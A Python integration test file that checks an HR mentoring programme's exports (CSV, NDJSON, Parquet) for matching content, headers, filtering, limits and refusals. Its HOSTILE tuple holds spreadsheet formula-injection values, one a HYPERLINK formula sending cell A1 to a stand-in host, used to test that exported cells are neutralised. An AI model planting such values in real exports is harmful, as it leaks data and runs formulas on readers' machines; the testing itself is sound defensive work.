"""What was released of a programme as a file: all forms say the same and harm no spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pytest

from services.insights.queries.programmes import Release
from services.insights.views import exports
from services.insights.views.exports import COLUMNS
from tests.integration.insights.conftest import Insights
from tests.integration.insights.programmes import after, begin, measures, several
from tests.integration.insights.reading import COMPANY, Readers, readers_of
from tests.support.databases import Databases
from tests.unit.insights.facts import ACME

pytestmark = pytest.mark.stack

PATH = "/v1/programmes/spring/export"
NAMES = [column.name for column in COLUMNS]
# What HR may call a unit, for all we know.
HOSTILE = (
    "=HYPERLINK(\"https://x.example\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tx", "＝1", "a,b",
    'say "x"', "two\r\nlines", "Zoë 東京 🐝", "plain = 1",
)  # fmt: skip


async def export(
    insights: Insights, role: str = "hr", tenant: str = ACME, path: str = PATH, **query: str
) -> httpx.Response:
    return await insights.get(f"{path}?{httpx.QueryParams(query)}", "boss", role, tenant)


def parquet(body: bytes, folder: Path) -> tuple[list[str], list[tuple[Any, ...]], list[str]]:
    """Names, rows and types, read by somebody else's reader."""
    file = folder / "export.parquet"
    file.write_bytes(body)
    # What it does not hold itself it would fetch from elsewhere.
    with duckdb.connect(config={"autoinstall_known_extensions": "false"}) as read:
        types = [str(each) for each in read.sql(f"SELECT * FROM '{file}'").types]
        found = read.sql(
            f"SELECT * REPLACE (make_timestamp(epoch_us(as_of)) AS as_of) FROM '{file}'"
        )
        return found.columns, found.fetchall(), types


@pytest.fixture
async def measured(insights: Insights) -> Insights:
    await insights.hears(begin(COMPANY))
    await measures(insights, after(2026, 5))
    return insights


@pytest.fixture
async def readers(insights: Insights, databases: Databases) -> AsyncIterator[Readers]:
    async with readers_of(insights, databases) as found:
        yield found


@pytest.mark.parametrize("role", ["hr", "manager", "service"])
async def test_every_form_tells_what_the_measures_tell(
    measured: Insights, role: str, tmp_path: Path
) -> None:
    told = (await measured.get("/v1/programmes/spring/measures", "boss", role)).json()["items"]
    wanted = [
        ["spring", each["unit"] or "", f"{each['epoch']}-01", each["as_of"], each["model"],
         each["pairs"], each["mentors"], each["mentees"], each["health"],
         *each["bands"].values(), *each["facets"].values(), *each["benefits"].values()]
        for each in told
    ]  # fmt: skip
    assert len(wanted) == 6

    lines = (await export(measured, role, format="ndjson")).text.splitlines()
    assert [list(json.loads(line)) for line in lines] == [NAMES] * 6
    assert [list(json.loads(line).values()) for line in lines] == wanted

    header, *rows = csv.reader(io.StringIO((await export(measured, role)).text), strict=True)
    assert (header, rows) == (NAMES, [[str(value) for value in row] for row in wanted])

    names, read, types = parquet((await export(measured, role, format="parquet")).content, tmp_path)
    assert names == NAMES
    assert [
        [*row[:2], row[2].isoformat(), f"{row[3].isoformat()}Z", *row[4:]] for row in read
    ] == wanted
    assert types[:9] == [
        "VARCHAR", "VARCHAR", "DATE", "TIMESTAMP WITH TIME ZONE", "VARCHAR", "INTEGER", "INTEGER",
        "INTEGER", "DOUBLE",
    ]  # fmt: skip
    assert set(types[9:]) == {"DOUBLE"}


@pytest.mark.parametrize(
    ("form", "kind"),
    [
        ("csv", "text/csv; charset=utf-8; header=present"),
        ("ndjson", "application/x-ndjson"),
        ("parquet", "application/vnd.apache.parquet"),
    ],
)
async def test_an_export_has_a_name_and_says_what_it_is(
    measured: Insights, form: str, kind: str
) -> None:
    answer = await export(measured, format=form)
    assert answer.headers["content-type"] == kind
    assert answer.headers["content-disposition"] == f'attachment; filename="spring.{form}"'
    assert answer.headers["cache-control"] == "private, max-age=60"
    again = await export(measured, format=form)
    assert (again.content, again.headers["etag"]) == (answer.content, answer.headers["etag"])


async def test_a_units_name_runs_nothing_in_a_spreadsheet_and_is_whole_elsewhere(
    insights: Insights, tmp_path: Path
) -> None:
    company = [
        pair for n, unit in enumerate(HOSTILE) for pair in several(range(n * 5, n * 5 + 5), unit)
    ]
    await insights.hears(begin(company))
    await measures(insights, after(2026, 4))
    known = {"", *(unit.strip() for unit in HOSTILE)}

    answer = await export(insights)
    text = answer.content.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    cells = {row["unit"] for row in rows}

    assert not [cell for row in rows for cell in row.values() if cell.startswith(exports.FORMULA)]
    assert {cell.removeprefix("'") for cell in cells} == known
    assert "plain = 1" in cells
    # RFC 4180: lines end with CRLF, and every one has as many cells as the first.
    assert text.startswith(",".join(NAMES) + "\r\n")
    assert text.endswith("\r\n")
    assert {len(row) for row in csv.reader(io.StringIO(text, newline=""))} == {len(NAMES)}
    assert {
        json.loads(line)["unit"] for line in (await export(insights, format="ndjson")).iter_lines()
    } == known
    _, read, _ = parquet((await export(insights, format="parquet")).content, tmp_path)
    assert {row[1] for row in read} == known


async def test_months_before_since_are_left_out(measured: Insights) -> None:
    found = (await export(measured, format="ndjson", since="2026-04")).text.splitlines()
    assert {json.loads(line)["epoch"] for line in found} == {"2026-04-01"}
    assert (await export(measured, since="2026-05")).text == ",".join(NAMES) + "\r\n"


@pytest.mark.parametrize("form", ["csv", "ndjson", "parquet"])
async def test_a_programme_that_is_too_small_is_an_export_without_rows(
    insights: Insights, form: str, tmp_path: Path
) -> None:
    await insights.hears(begin(several(range(4))))
    await measures(insights, after(2026, 4))
    answer = await export(insights, format=form)
    assert answer.status_code == 200
    if form == "parquet":
        assert parquet(answer.content, tmp_path)[:2] == (NAMES, [])
    else:
        assert answer.text in ("", ",".join(NAMES) + "\r\n")


async def test_what_is_too_large_is_asked_for_in_parts(
    measured: Insights, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MOST_ROWS", 5)
    refused = await export(measured)
    assert (refused.status_code, refused.json()["type"]) == (
        422, "urn:trustfold:problem:too-many-rows",
    )  # fmt: skip
    assert (await export(measured, since="2026-04")).status_code == 200


@pytest.mark.parametrize(
    ("asked", "status"),
    [
        ({"role": "participant"}, 403),
        ({"tenant": "globex"}, 404),
        ({"path": "/v1/programmes/autumn/export"}, 404),
        ({"format": "xlsx"}, 422),
        ({"since": "2026-13"}, 422),
    ],
)
async def test_what_cannot_be_exported_is_refused(
    measured: Insights, asked: dict[str, str], status: int
) -> None:
    assert (await export(measured, **asked)).status_code == status


@pytest.mark.parametrize("form", ["csv", "ndjson", "parquet"])
async def test_the_command_writes_what_the_route_answers(
    insights: Insights, readers: Readers, form: str, tmp_path: Path
) -> None:
    file = tmp_path / "out"
    arguments = ("export", "spring", "--tenant", "acme", "--format", form, "--out", str(file))
    done = await readers.command(*arguments, "--since", "2026-04")
    assert (done.exit_code, done.stdout) == (0, f"3 rows in {file}\n")
    assert file.read_bytes() == (await export(insights, format=form, since="2026-04")).content


@pytest.mark.parametrize(
    ("arguments", "code", "why"),
    [
        (("nothing", "--tenant", "acme"), 1, "there is no such programme"),
        (("spring", "--tenant", "other"), 1, "there is no such programme"),
        (("spring", "--tenant", "*"), 2, "not the id of a tenant"),
        (("spring", "--tenant", "acme", "--since", "2026-13"), 2, "not a month"),
        (("spring", "--tenant", "acme", "--out", "/nowhere/at/all"), 2, "No such file"),
    ],
)
async def test_the_command_says_in_words_what_is_wrong(
    readers: Readers, arguments: tuple[str, ...], code: int, why: str, tmp_path: Path
) -> None:
    out = () if "--out" in arguments else ("--out", str(tmp_path / "out"))
    done = await readers.command("export", *arguments, *out)
    assert (done.exit_code, why in done.stderr) == (code, True), done.output


def test_what_an_earlier_model_did_not_tell_is_empty(tmp_path: Path) -> None:
    fact = {
        "programme_id": "old", "org_unit": None, "epoch": "2026-02",
        "as_of": "2026-03-01T00:00:00Z", "model": "v0", "pairs": 5, "mentors": 5, "mentees": 5,
        "health": 0.5, "bands": {"steady": 1.0}, "facets": {}, "benefits": {},
    }  # fmt: skip
    told = Release(2026 * 12 + 1, "", json.dumps(fact).encode())
    names, [row], _ = parquet(exports.written([told], exports.Form.PARQUET), tmp_path)
    found = dict(zip(names, row, strict=True))
    assert (found["epoch"], f"{found['as_of']}") == (date(2026, 2, 1), "2026-03-01 00:00:00")
    assert (found["band_steady"], found["band_watch"], found["facet_E"]) == (1.0, None, None)
